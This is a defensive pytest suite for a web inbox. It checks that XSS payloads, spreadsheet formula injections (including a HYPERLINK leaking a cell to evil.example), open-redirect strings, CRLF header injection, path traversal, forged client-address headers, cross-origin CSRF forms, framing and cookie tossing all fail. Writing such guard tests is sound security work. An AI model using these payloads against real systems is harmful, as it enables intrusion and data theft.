"""The inbox attacked as a stranger on the internet or a hostile prospect would, against a real `impart serve
--inbox`: through raw HTTP (http.client, unnormalised paths and headers as sent) and through Chromium with a
hostile page on another loopback port.

Each test is a guard: the attack it makes fails today. What a prospect types goes in through the public
form itself, so the inbox is judged on what the handler really stores. Every client speaks from its own
loopback address (127.0.0.N), so the login throttle's count for one attack never spills into another's.
"""

from __future__ import annotations

import csv
import http.client
import http.server
import io
import json
import statistics
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from bs4 import BeautifulSoup

from impart.inbox.accounts import Accounts
from impart.inbox.app import COOKIE
from impart.inbox.login_throttle import FREE
from tests.helpers.form import valid_submission
from tests.helpers.inbox import OTHER_PASSWORD, PASSWORD, files_of, login, make_inbox, write_accounts
from tests.helpers.servers import free_port, running, serve_command

FORM = "application/x-www-form-urlencoded"

# What a prospect can get past the public form's own checks (it refuses C0/C1 controls outright).
HOSTILE = valid_submission(
    name='"><svg onload=alert(1)>',
    organisation='<img src=x onerror=alert(1)>=HYPERLINK("http://evil.example/?"&A1,"open")',
    role=" =1+1",
    use_case="<script>alert(1)</script> javascript:alert(1) \u202edesrever\u202c \u2066iso\u2069 " + "w" * 3000,
    operator='+cmd|" /C calc"!A0',
    success_measure="=2+3 fewer days \u2028by June",
    rollback='@SUM(1+1)*cmd|"/c calc"!A1\n-2+3 <a href="javascript:alert(1)">back</a>',
    **{"from": '/field-notes/"><script>x()</script>/'},
)
TIMED_PASSWORD = "a password hashed at the real cost"
BIDI = ["\u202e", "\u202c", "\u2066", "\u2069", "\u2028"]


@dataclass
class Served:
    port: int
    proposals: Path
    hostile: str  # the reference of the proposal sent with HOSTILE answers
    plain: str  # a proposal with ordinary answers

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def request(self, method, path, body=None, headers=None, *, source="127.0.0.1", host=None):
        """One request as sent (path unnormalised), from the loopback address `source`."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=15, source_address=(source, 0))
        sent = {"Host": host or self.host, **(headers or {})}
        if isinstance(body, dict):
            body = urlencode(body)
            sent.setdefault("Content-Type", FORM)
        try:
            connection.request(method, path, body=body, headers=sent)
            response = connection.getresponse()
            return response.status, response.headers, response.read()
        finally:
            connection.close()

    def log_in(self, account="ada", password=PASSWORD, *, source="127.0.0.1", cookie="", next_path=""):
        data = {"account": account, "password": password, **({"next": next_path} if next_path else {})}
        headers = {"Origin": f"http://{self.host}", **({"Cookie": f"{COOKIE}={cookie}"} if cookie else {})}
        return self.request("POST", "/inbox/login", data, headers, source=source)

    def session(self, account="ada", password=PASSWORD, source="127.0.0.1") -> str:
        status, headers, _ = self.log_in(account, password, source=source)
        assert status == 303, status
        return headers["Set-Cookie"].split(";")[0].split("=", 1)[1]

    def page(self, path, session, **options):
        return self.request("GET", path, headers={"Cookie": f"{COOKIE}={session}"}, **options)

    def record(self, reference) -> dict:
        return json.loads((self.proposals / f"{reference}.json").read_text(encoding="utf-8"))


def _submit(port: int, answers: dict) -> str:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=15)
    headers = {"Content-Type": FORM, "Origin": f"http://127.0.0.1:{port}", "Accept": "application/json"}
    connection.request("POST", "/request-a-proposal/", body=urlencode(answers), headers=headers)
    response = connection.getresponse()
    body = response.read()
    connection.close()
    assert response.status == 201, body
    return json.loads(body)["reference"]


@pytest.fixture(scope="module")
def served(built_site, tmp_path_factory):
    folder = tmp_path_factory.mktemp("inbox-attacks")
    write_accounts(folder / "accounts.json", (("ada", PASSWORD), ("bob", OTHER_PASSWORD)))
    Accounts(folder / "accounts.json").add("timed", TIMED_PASSWORD, now=time.time())  # at the real cost
    port = free_port()
    options = ("--inbox", "--inbox-accounts", str(folder / "accounts.json"), "--rate-limit", "1000/60")
    with running(serve_command(built_site.root, folder / "proposals", port, *options), port):
        hostile = _submit(port, HOSTILE)
        plain = _submit(port, valid_submission(organisation="Plain Dealing Ltd", email="b@example.com"))
        yield Served(port, folder / "proposals", hostile, plain)


def _token(body: bytes) -> str:
    return BeautifulSoup(body, "html.parser").find("input", attrs={"name": "csrf"})["value"]


# -- no session, a stale one, a planted one ----------------------------------------------------------------


def _urls(served):
    ref = served.plain
    return [
        ("GET", "/inbox/"), ("GET", f"/inbox/p/{ref}"), ("GET", "/inbox/export.csv"), ("GET", "/inbox/outbox"),
        ("GET", "/inbox/nothing-here"), ("POST", f"/inbox/p/{ref}/mark"), ("POST", "/inbox/outbox/retry"),
        ("POST", "/inbox/logout"), ("PUT", "/inbox/"), ("DELETE", f"/inbox/p/{ref}"),
    ]  # fmt: skip


@pytest.mark.parametrize("cookie", ["", "A" * 43, "not a session", "x" * 5000, "{stale}"])
def test_without_a_live_session_every_url_sends_to_login_and_says_nothing(served, cookie):
    if cookie == "{stale}":
        cookie = served.session(source="127.0.0.2")
        status, _, _ = served.request("POST", "/inbox/logout", {"csrf": _token(served.page("/inbox/", cookie)[2])},
                                      {"Cookie": f"{COOKIE}={cookie}", "Origin": f"http://{served.host}"})  # fmt: skip
        assert status == 303
    before = files_of(served.proposals)
    for method, path in _urls(served):
        body = {"status": "won", "csrf": "guess"} if method == "POST" else None
        headers = {"Cookie": f"{COOKIE}={cookie}"} if cookie else {}
        status, answer, content = served.request(method, path, body, headers)
        assert status == 303 and content == b"", (method, path)
        assert answer["Location"].startswith("/inbox/login"), (method, path)
        assert answer["Cache-Control"] == "no-store" and "Set-Cookie" not in answer
        assert served.plain not in answer["Location"] or method == "GET"  # only a GET's own path comes back
    assert files_of(served.proposals) == before


def test_the_cookie_is_host_prefixed_host_only_httponly_and_strict(served):
    status, headers, _ = served.log_in(source="127.0.0.3")
    assert status == 303
    attributes = [part.strip().lower() for part in headers["Set-Cookie"].split(";")]
    assert attributes[0].startswith("__host-impart_inbox=") and "secure" in attributes
    assert "httponly" in attributes and "samesite=strict" in attributes and "path=/" in attributes
    assert not [part for part in attributes if part.startswith("domain")]
    assert len(attributes[0].split("=", 1)[1]) == 43  # 32 random bytes


def test_an_id_planted_before_the_login_never_becomes_the_logged_in_one(served):
    planted = served.session("bob", OTHER_PASSWORD, source="127.0.0.4")  # the attacker's own live session
    status, headers, _ = served.log_in(source="127.0.0.4", cookie=planted)
    issued = headers["Set-Cookie"].split(";")[0].split("=", 1)[1]
    assert status == 303 and issued != planted
    assert served.page("/inbox/", planted)[0] == 303  # the planted id ended with the victim's login
    assert b"(ada)" in served.page("/inbox/", issued)[2]


def test_after_logout_neither_the_cookie_nor_its_token_works_again(served):
    session = served.session(source="127.0.0.5")
    token = _token(served.page(f"/inbox/p/{served.plain}", session)[2])
    same = {"Origin": f"http://{served.host}"}
    # A GET cannot log out (a link or image elsewhere could otherwise do it).
    assert served.request("GET", "/inbox/logout", headers={"Cookie": f"{COOKIE}={session}"})[0] == 405
    assert served.page("/inbox/", session)[0] == 200
    logout = served.request("POST", "/inbox/logout", {"csrf": token}, {"Cookie": f"{COOKIE}={session}", **same})
    assert logout[0] == 303 and "Max-Age=0" in logout[1]["Set-Cookie"]
    before = files_of(served.proposals)
    assert served.page("/inbox/", session)[0] == 303
    replay = served.request("POST", f"/inbox/p/{served.plain}/mark", {"status": "won", "csrf": token},
                            {"Cookie": f"{COOKIE}={session}", **same})  # fmt: skip
    assert replay[0] == 303 and replay[1]["Location"].startswith("/inbox/login")
    # A new login's session does not take the old token either.
    fresh = served.session(source="127.0.0.5")
    stale_token = served.request("POST", f"/inbox/p/{served.plain}/mark", {"status": "won", "csrf": token},
                                 {"Cookie": f"{COOKIE}={fresh}", **same})  # fmt: skip
    assert stale_token[0] == 403
    assert files_of(served.proposals) == before


# -- where a login sends the browser next --------------------------------------------------------------------

REDIRECTS = [
    "//evil.example", "//evil.example/inbox/", "/\\evil.example", "\\\\evil.example", "\\/evil.example",
    "/%2F%2Fevil.example", "%2F%2Fevil.example", "/%252F%252Fevil.example", "/inbox/%252F%252Fevil.example",
    "https:evil.example", "https://evil.example/inbox/", "HTTPS://evil.example", "//evil.example@127.0.0.1/inbox/",
    "/inbox/\t/evil.example", "/\t/evil.example", "/inbox/\n/evil.example", "/inbox/\r\nLocation: //evil.example",
    "/inbox/%0d%0aSet-Cookie:%20x=1", "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
    "/inbox/javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "/inbox/../evil", "/inbox/%2e%2e/evil",
    "/inbox//evil.example", "/inbox/\\evil.example", "/inbox/%5c%5cevil.example", "/inbox/?next=//evil.example",
    "/inbox/#//evil.example", "/\u3002evil.example", "/inbox/\u2215\u2215evil.example", "/inbox/login",
]  # fmt: skip


def _safe(location: str) -> None:
    """Where a browser would really go: this server's inbox, whatever it makes of the text."""
    assert location.startswith("/inbox/"), location
    assert not any(c in location for c in "\\\t\r\n ") and "//" not in location, location
    assert not urlsplit(location).scheme and not urlsplit(location).netloc, location
    assert "evil" not in location.lower() and "javascript" not in location.lower(), location


@pytest.mark.parametrize("target", REDIRECTS, ids=range(len(REDIRECTS)))
def test_the_login_never_sends_the_browser_outside_the_inbox(served, target):
    status, _, page = served.request("GET", "/inbox/login?" + urlencode({"next": target}), source="127.0.0.6")
    assert status == 200
    _safe(BeautifulSoup(page, "html.parser").find("input", attrs={"name": "next"})["value"])
    status, headers, _ = served.log_in(source="127.0.0.6", next_path=target)
    assert status == 303
    _safe(headers["Location"])


@pytest.mark.parametrize(
    "path",
    ["/inbox//evil.example", "/inbox/%2F%2Fevil.example", "/inbox/%5C%5Cevil.example", "/inbox/..%2F..%2Fevil",
     "/inbox/%09/evil.example", "/inbox/%0d%0aSet-Cookie:%20x=1", "/inbox/?%0d%0aX:%20y"],
)  # fmt: skip
def test_the_way_to_the_login_keeps_nothing_of_a_crafted_path(served, path):
    status, headers, _ = served.request("GET", path, source="127.0.0.6")
    assert "Set-Cookie" not in headers and "X" not in headers
    if status == 400:  # an encoded slash or a dot segment: refused before any routing, sent nowhere
        assert "Location" not in headers
        return
    assert status == 303
    location = headers["Location"]
    assert location.startswith("/inbox/login")
    for value in location.partition("?next=")[2:]:
        if value:
            _safe(value)


# -- another Host, a forged client address, guessing names ------------------------------------------------


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1:{port}.evil.example", "127.0.0.1:{port}@evil.example",
             "localhost.evil.example:{port}", "127.0.0.1"],
)  # fmt: skip
def test_the_inbox_answers_no_other_host(served, host):
    session = served.session(source="127.0.0.7")
    for method, path, body in [("GET", "/inbox/login", None), ("GET", "/inbox/", None),
                               ("POST", "/inbox/login", {"account": "ada", "password": PASSWORD})]:  # fmt: skip
        headers = {"Cookie": f"{COOKIE}={session}", "Origin": f"http://{served.host}"}
        status, answer, content = served.request(method, path, body, headers, host=host.format(port=served.port))
        assert status == 421 and "Set-Cookie" not in answer, (method, path)
        assert b"Log in" not in content and b"Plain Dealing" not in content and b"csrf" not in content


def test_a_forwarded_for_header_buys_no_more_guesses_without_a_trusted_proxy(served):
    source = "127.0.0.8"
    statuses = []
    for n in range(FREE + 3):
        forged = {"X-Forwarded-For": f"203.0.113.{n}", "X-Real-IP": f"203.0.113.{n}",
                  "Forwarded": f"for=203.0.113.{n}", "Origin": f"http://{served.host}"}  # fmt: skip
        # A different account name each time, so only the address can be what slows them.
        body = {"account": f"guess{n}", "password": "a wrong password"}
        statuses.append(served.request("POST", "/inbox/login", body, forged, source=source)[0])
    assert statuses == [403] * FREE + [429] * 3


def test_a_login_takes_as_long_for_a_name_with_no_account(served):
    """A name with no account costs the same scrypt as a wrong password for a real one, so the time of a
    refusal does not say which names exist (a shortcut would answer in a hundredth of the time)."""
    known, unknown = [], []
    for n in range(6):
        for account, times in (("timed", known), (f"nobody{n}", unknown)):
            started = time.perf_counter()
            assert served.log_in(account, "not the password", source="127.0.0.9")[0] == 403
            times.append(time.perf_counter() - started)
        assert served.log_in("timed", TIMED_PASSWORD, source="127.0.0.9")[0] == 303  # clears the address's count
    ratio = statistics.median(unknown) / statistics.median(known)
    assert 0.4 < ratio < 2.5, (known, unknown)


# -- what a prospect typed, as the operator meets it ------------------------------------------------------


def _inert(content: bytes) -> BeautifulSoup:
    tree = BeautifulSoup(content, "html.parser")
    assert tree.find(["script", "svg", "img", "iframe", "object", "embed"]) is None
    assert not [tag for tag in tree.find_all(True) if any(name.lower().startswith("on") for name in tag.attrs)]
    links = [a.get("href", "") for a in tree.find_all("a")]
    assert all(href.startswith("/inbox/") or href == "#main" for href in links), links
    text = content.decode("utf-8")
    assert not [c for c in BIDI if c in text]
    return tree


@pytest.mark.parametrize("where", ["proposal", "list", "search"])
def test_hostile_answers_sent_through_the_public_form_are_shown_inert(served, where):
    session = served.session(source="127.0.0.10")
    path = {"proposal": f"/inbox/p/{served.hostile}", "list": "/inbox/", "search": "/inbox/?q=HYPERLINK"}[where]
    status, _, content = served.page(path, session)
    assert status == 200
    text = _inert(content).get_text()
    assert HOSTILE["organisation"] in text  # as typed, as text
    if where == "proposal":
        assert "<script>alert(1)</script> javascript:alert(1) \\u202edesrever\\u202c \\u2066iso\\u2069" in text
        assert '<a href="javascript:alert(1)">back</a>' in text and '"><svg onload=alert(1)>' in text
    if where == "search":
        assert served.hostile in text and served.plain not in text


def test_a_hostile_status_or_note_in_a_mark_is_shown_inert(served):
    session = served.session(source="127.0.0.18")
    cookie = {"Cookie": f"{COOKIE}={session}", "Origin": f"http://{served.host}"}
    reference = _submit(served.port, valid_submission(organisation="Marked Up Ltd", email="c@example.com"))
    token = _token(served.page(f"/inbox/p/{reference}", session)[2])
    before = files_of(served.proposals)
    refused = served.request(
        "POST", f"/inbox/p/{reference}/mark", {"status": "<script>alert(1)</script>\u202e", "csrf": token}, cookie
    )
    assert refused[0] == 422 and files_of(served.proposals) == before
    _inert(refused[2])
    note = '<script>alert(1)</script>\u202eevil\u202c <a href="javascript:alert(1)">x</a>'
    marked = served.request("POST", f"/inbox/p/{reference}/mark", {"status": "in-review", "note": note, "csrf": token},
                            cookie)  # fmt: skip
    assert marked[0] == 303
    shown = _inert(served.page(f"/inbox/p/{reference}", session)[2]).find(class_="note").get_text()
    assert shown == note.replace("\u202e", "\\u202e").replace("\u202c", "\\u202c")
    assert served.record(reference)["history"][-1]["by"] == "ada"


@pytest.mark.parametrize(
    "query",
    ['"><script>alert(1)</script>', "</title><script>alert(1)</script>", "' onfocus=alert(1) autofocus '",
     "\u202e<svg onload=alert(1)>", "javascript:alert(1)"],
)  # fmt: skip
def test_a_search_is_reflected_as_text(served, query):
    session = served.session(source="127.0.0.11")
    status, _, content = served.page("/inbox/?" + urlencode({"q": query, "status": '"><b>x</b>'}), session)
    assert status == 200
    tree = BeautifulSoup(content, "html.parser")
    assert tree.find(["script", "svg", "b"]) is None
    assert not [tag for tag in tree.find_all(True) if any(name.lower().startswith("on") for name in tag.attrs)]
    assert tree.find("input", id="q")["value"] == query
    assert not [o for o in tree.find_all("option") if o.has_attr("selected")]  # an unknown status is no filter


@pytest.mark.parametrize("query", [".*", "**", "%", "_", "(a+)+$", "[", "\\", "?*?"])
def test_a_search_is_words_not_a_pattern(served, query):
    session = served.session(source="127.0.0.12")
    status, _, content = served.page("/inbox/?" + urlencode({"q": query}), session)
    assert status == 200
    assert BeautifulSoup(content, "html.parser").find("p", class_="count").get_text().strip().startswith("0 ")


def test_a_very_long_search_is_cut_not_echoed_whole(served):
    session = served.session(source="127.0.0.13")
    query = "HYPERLINK " + "z" * 16_000
    status, _, content = served.page("/inbox/?" + urlencode({"q": query}), session)
    assert status == 200 and len(content) < 16_000
    assert len(BeautifulSoup(content, "html.parser").find("input", id="q")["value"]) == 200


def test_the_export_defuses_formulas_and_names_its_own_file(served):
    session = served.session(source="127.0.0.14")
    status, headers, content = served.page("/inbox/export.csv?spam=1%0d%0aX-Evil:%201&filename=evil.html", session)
    assert status == 200 and "X-Evil" not in headers
    assert headers["Content-Type"] == "text/csv; charset=utf-8" and headers["X-Content-Type-Options"] == "nosniff"
    disposition = headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="proposals-') and disposition.endswith('.csv"')
    assert "evil" not in disposition
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["reference"] == served.hostile)
    for name in ("role", "operator", "success_measure", "rollback"):
        cell = row[name]
        assert cell.startswith("'") and cell[1:].lstrip()[:1] in ("=", "+", "-", "@"), (name, cell)
    assert not [c for c in BIDI if c in content.decode("utf-8")]


# -- references with path tricks, as sent on the wire --------------------------------------------------------

PATH_TRICKS = [
    "../../inbox-accounts.json", "..%2F..%2Faccounts.json", "%2e%2e%2f%2e%2e%2faccounts", "..%5C..%5Caccounts",
    "{ref}%00", "{ref}%2F..%2F..%2Faccounts", "{ref}.json", "{ref}%20", "%20{ref}", "{ref}/../../x",
    ".state", ".state%2Finbox%2Fsessions", "quarantine%2F{ref}", "{lower}", "x" * 5000,
]  # fmt: skip


@pytest.mark.parametrize("trick", PATH_TRICKS, ids=range(len(PATH_TRICKS)))
def test_path_tricks_on_a_reference_reach_nothing(served, trick):
    session = served.session(source="127.0.0.15")
    trick = trick.format(ref=served.plain, lower=served.plain.lower())
    cookie = {"Cookie": f"{COOKIE}={session}", "Origin": f"http://{served.host}"}
    token = _token(served.page("/inbox/", session)[2])
    before = files_of(served.proposals)
    shown = served.page(f"/inbox/p/{trick}", session)
    marked = served.request("POST", f"/inbox/p/{trick}/mark", {"status": "won", "csrf": token}, cookie)
    retried = served.request("POST", "/inbox/outbox/retry", {"reference": trick, "csrf": token}, cookie)
    # 400 for a dot segment or an encoded slash (refused before routing), else 404.
    assert shown[0] in (400, 404) and marked[0] == shown[0], (shown[0], marked[0])
    assert retried[0] == 303 and retried[1]["Location"] == "/inbox/outbox?retried=0"
    for _, _, content in (shown, marked):
        assert b"scrypt$" not in content and b"Plain Dealing" not in content and b"Traceback" not in content
    assert files_of(served.proposals) == before


# -- what errors and headers give away, what the site shows -------------------------------------------------


def test_errors_give_nothing_away(served, tmp_path):
    session = served.session(source="127.0.0.16")
    broken = "20260101-000000-BRKNAA"
    (served.proposals / f"{broken}.json").write_text("{not json", encoding="utf-8")
    try:
        answers = [
            served.page("/inbox/no-such-page", session),
            served.request("PUT", "/inbox/", "x", {"Cookie": f"{COOKIE}={session}"}),
            served.page(f"/inbox/p/{broken}", session),
        ]
    finally:
        (served.proposals / f"{broken}.json").unlink()
    assert [status for status, _, _ in answers] == [404, 405, 500]
    for _, headers, content in answers:
        text = content.decode("utf-8")
        assert "Traceback" not in text and "werkzeug" not in text.lower() and str(served.proposals) not in text
        assert "python" not in text.lower() and "/tmp" not in text
        assert headers["Server"] == "impart" and headers["Cache-Control"] == "no-store"
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_nothing_of_the_inbox_is_cached_or_published(served, built_site):
    session = served.session(source="127.0.0.17")
    for path in ("/inbox/login", "/inbox/inbox.css", "/inbox/", f"/inbox/p/{served.plain}", "/inbox/export.csv"):
        status, headers, _ = served.page(path, session)
        assert status == 200 and headers["Cache-Control"] == "no-store", path
    for path in ("/sitemap.xml", "/search/search_index.json", "/feed_rss_created.xml", "/feed_json_created.json"):
        status, _, content = served.request("GET", path)
        assert status == 200 and b"/inbox" not in content, path
    assert not (built_site.root / "inbox").exists()


def test_session_files_stay_bounded_by_the_live_logins(tmp_path):
    inbox = make_inbox(tmp_path)
    client = inbox.client()
    for _ in range(8):
        assert login(inbox.client()).status_code == 303
    folder = inbox.proposals / ".state" / "inbox" / "sessions"
    assert len([p for p in folder.iterdir() if not p.name.startswith(".")]) == 8  # each live until it idles
    inbox.clock.now += inbox.app.sessions.idle + 1
    assert login(client).status_code == 303
    assert len([p for p in folder.iterdir() if not p.name.startswith(".")]) == 1


# -- in Chromium, with a hostile page on another loopback port ---------------------------------------------


@pytest.fixture(scope="module")
def hostile_site():
    """A page server on another loopback port; a test sets the pages it serves."""
    pages: dict[str, str] = {}

    class Pages(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = pages.get(self.path, "").encode("utf-8")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Pages)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], pages
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def _browser_login(browser, served):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"http://{served.host}/inbox/login")
    page.get_by_label("Account name").fill("ada")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"http://{served.host}/inbox/")
    return context, page


def _inbox_cookie(context) -> list[str]:
    return [c["value"] for c in context.cookies() if c["name"] == COOKIE]


@pytest.mark.parametrize("evil_host", ["127.0.0.1", "localhost"])  # same site (another port), another site
def test_a_form_on_another_origin_changes_nothing(browser, served, hostile_site, evil_host):
    port, pages = hostile_site
    target = f"http://{served.host}"
    pages["/mark"] = (f'<form id="f" method="post" action="{target}/inbox/p/{served.plain}/mark">'
                      '<input name="status" value="spam"><input name="note" value="forged"></form>'
                      '<script>document.getElementById("f").submit()</script>')  # fmt: skip
    pages["/logout"] = (f'<form id="f" method="post" action="{target}/inbox/logout"></form>'
                        '<script>document.getElementById("f").submit()</script>')  # fmt: skip
    context, page = _browser_login(browser, served)
    before = files_of(served.proposals)
    try:
        for path in ("/mark", "/logout"):
            with page.expect_navigation(url=f"{target}/inbox/**"):
                page.goto(f"http://{evil_host}:{port}{path}")
            assert "Proposal" not in page.title()
        assert files_of(served.proposals) == before
        page.goto(f"{target}/inbox/")
        assert page.url == f"{target}/inbox/"  # still logged in: the forged logout did nothing
    finally:
        context.close()


def test_a_login_from_another_origin_is_refused(browser, served, hostile_site):
    """Login CSRF: a page elsewhere logging the operator in as the attacker, to see what they then type."""
    port, pages = hostile_site
    pages["/login"] = (f'<form id="f" method="post" action="http://{served.host}/inbox/login">'
                       f'<input name="account" value="bob"><input name="password" value="{OTHER_PASSWORD}"></form>'
                       '<script>document.getElementById("f").submit()</script>')  # fmt: skip
    context = browser.new_context()
    try:
        page = context.new_page()
        with page.expect_navigation(url=f"http://{served.host}/inbox/login"):
            page.goto(f"http://127.0.0.1:{port}/login")
        assert page.title().startswith("Error: ") and _inbox_cookie(context) == []
    finally:
        context.close()


def test_the_inbox_will_not_render_in_a_frame_elsewhere(browser, served, hostile_site):
    port, pages = hostile_site
    pages["/frames"] = "".join(
        f'<iframe src="http://{served.host}{path}" width="600" height="300"></iframe>'
        for path in ("/inbox/login", "/inbox/", f"/inbox/p/{served.plain}")
    )
    context, page = _browser_login(browser, served)
    try:
        page.goto(f"http://127.0.0.1:{port}/frames", wait_until="load")
        framed = page.frames[1:]
        assert len(framed) == 3
        for frame in framed:
            assert frame.url.startswith("chrome-error:"), frame.url
            assert "Log in" not in frame.content() and "Plain Dealing" not in frame.content()
    finally:
        context.close()


def test_hostile_answers_run_nothing_in_the_browser(browser, served):
    context, page = _browser_login(browser, served)
    ran = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    try:
        for path in (f"/inbox/p/{served.hostile}", "/inbox/?q=HYPERLINK", "/inbox/?q=%3Cscript%3E"):
            page.goto(f"http://{served.host}{path}", wait_until="load")
            assert page.locator("script, svg, img").count() == 0
            assert page.evaluate("document.querySelectorAll('[onload],[onerror],[onfocus]').length") == 0
        assert ran == []
    finally:
        context.close()


# -- cookie tossing: a page on another loopback port setting cookies for this host -------------------------

# What a page on another port can write into document.cookie (cookies are not kept apart by port): the
# cookie's old name on a deeper path (sent first), the prefixed name on a path, a nameless cookie that a
# browser sends as `name=value`, and the prefixed name over ours.
TOSSES = [
    "impart_inbox={value}; path=/inbox/p/",
    "__Host-impart_inbox={value}; path=/inbox/p/",
    "=__Host-impart_inbox={value}; path=/inbox/p/",
    "__Host-impart_inbox={value}; path=/; Secure",
    "impart_inbox={value}; path=/inbox/",
]


@pytest.mark.parametrize("tossed", ["garbage", "the attacker's own session"])
def test_a_cookie_tossed_from_another_port_neither_locks_out_nor_impersonates(browser, served, hostile_site, tossed):
    port, pages = hostile_site
    value = "G" * 43 if tossed == "garbage" else served.session("bob", OTHER_PASSWORD, source="127.0.0.19")
    pages["/toss"] = "<script>" + "".join(f"document.cookie={json.dumps(t.format(value=value))};" for t in TOSSES)
    pages["/toss"] += "</script>"
    reference = _submit(served.port, valid_submission(organisation="Tossed Cookies Ltd", email="t@example.com"))
    proposal = f"http://{served.host}/inbox/p/{reference}"
    context, page = _browser_login(browser, served)
    try:
        page.goto(f"http://127.0.0.1:{port}/toss", wait_until="load")
        for round_ in range(2):  # the operator opens the proposal and marks it, twice over
            page.goto(proposal)
            if page.url.startswith(f"http://{served.host}/inbox/login"):  # asked to log in once at most
                assert round_ == 0
                page.get_by_label("Account name").fill("ada")
                page.get_by_label("Password").fill(PASSWORD)
                page.get_by_role("button", name="Log in").click()
                page.wait_for_url(proposal)
            assert page.url == proposal and "Tossed Cookies Ltd" in page.content()
            assert "(ada)" in page.locator(".who").inner_text()
            page.get_by_label("Note").fill(f"round {round_}")
            page.get_by_role("button", name="Mark").click()
            page.wait_for_url(proposal)
        history = served.record(reference)["history"]
        assert [change["by"] for change in history[-2:]] == ["ada", "ada"]
        assert [change.get("note") for change in history[-2:]] == ["round 0", "round 1"]
    finally:
        context.close()


def test_a_request_with_two_session_cookies_is_trusted_with_neither(served):
    bob = served.session("bob", OTHER_PASSWORD, source="127.0.0.20")
    ada = served.session(source="127.0.0.20")
    token = _token(served.page(f"/inbox/p/{served.plain}", ada)[2])
    before = files_of(served.proposals)
    for cookies in (
        f"{COOKIE}={bob}; {COOKIE}={ada}",
        f"{COOKIE}={ada}; {COOKIE}={bob}",
        f"{COOKIE}=x; {COOKIE}={ada}",
    ):
        marked = served.request("POST", f"/inbox/p/{served.plain}/mark", {"status": "won", "csrf": token},
                                {"Cookie": cookies, "Origin": f"http://{served.host}"})  # fmt: skip
        assert marked[0] == 303 and marked[1]["Location"].startswith("/inbox/login"), cookies
        status, headers, _ = served.request("GET", f"/inbox/p/{served.plain}", headers={"Cookie": cookies})
        assert status == 303 and headers["Location"] == f"/inbox/login?next=/inbox/p/{served.plain}"
        expired = sorted(v.split("Path=")[1].split(";")[0] for v in headers.get_all("Set-Cookie"))
        assert expired == sorted(["/", "/inbox", "/inbox/", "/inbox/p", "/inbox/p/", f"/inbox/p/{served.plain}"])
        assert all(v.startswith(f"{COOKIE}=;") and "Max-Age=0" in v for v in headers.get_all("Set-Cookie"))
    assert files_of(served.proposals) == before
    assert served.page("/inbox/", ada)[0] == 200  # neither session was ended: only the request was refused
